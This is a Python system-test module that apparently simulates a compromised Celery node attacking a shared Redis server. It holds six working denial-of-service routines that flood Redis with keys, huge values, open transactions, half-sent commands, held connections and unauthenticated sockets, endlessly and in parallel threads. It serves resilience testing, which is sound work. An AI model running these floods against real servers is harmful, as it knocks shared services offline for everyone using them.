"""What somebody does with the stolen access of one node: ``python -m tests.system.flood KIND URL``.

It goes on until it is ended, and connects again as often as it is thrown out.
"""

from __future__ import annotations

import contextlib
import socket
import sys
import threading
import time
from urllib.parse import urlsplit

import redis

MIB = 1 << 20
SLOTS = 8


def keys(url: str, node: str) -> None:
    """Write as many keys of its own prefix as it can."""
    client, number = redis.Redis.from_url(url), 0
    while True:
        pipe = client.pipeline(transaction=False)
        for _ in range(10_000):
            pipe.set(f"celery-task-meta-{node}:{number}", b"x" * 100)
            number += 1
        pipe.execute(raise_on_error=False)


def values(url: str, node: str) -> None:
    """Fill each key that it may write."""
    client = redis.Redis.from_url(url)
    while True:
        for slot in range(SLOTS):
            client.set(f"celery-task-meta-{node}:{slot}", b"x" * (16 * MIB - 64))
        client.set(f"alive.{node}", b"x" * (16 * MIB - 64))


def transactions(url: str, node: str) -> None:
    """Queue commands in transactions that never end."""
    held = []
    for _ in range(15):
        connection = redis.Redis.from_url(url).connection_pool.get_connection()
        connection.send_command("MULTI")
        held.append(connection)
    while True:
        for connection in held:
            connection.send_command("SETEX", f"alive.{node}", "9", b"x" * MIB)


def unread(url: str, node: str) -> None:
    """Send half a command on each connection, and never its end."""
    del node
    held = []
    while True:
        connection = redis.Redis.from_url(url).connection_pool.get_connection()
        connection._sock.sendall(b"*2\r\n$4\r\nLLEN\r\n$16000000\r\n" + b"x" * 15_000_000)
        held.append(connection)


def connections(url: str, node: str) -> None:
    """Open connections and keep them."""
    del node
    held = []
    while True:
        held.append(redis.Redis.from_url(url).connection_pool.get_connection())


def strangers(url: str, node: str) -> None:
    """Open sockets without logging in, more than Redis takes."""
    del node
    address = urlsplit(url)
    held = []
    while True:
        if len(held) < 12_000:
            held.append(socket.create_connection((address.hostname, address.port), timeout=5))
        else:
            time.sleep(0.2)
            held = []


KINDS = {one.__name__: one for one in (keys, values, transactions, unread, connections, strangers)}


def main(kind: str, url: str) -> None:
    """Flood in four threads."""

    def flood() -> None:
        node = urlsplit(url).username or ""
        while True:
            with contextlib.suppress(redis.RedisError, OSError, AttributeError):
                KINDS[kind](url, node)
            time.sleep(0.01)

    for _ in range(3):
        threading.Thread(target=flood, daemon=True).start()
    flood()


if __name__ == "__main__":
    main(*sys.argv[1:])
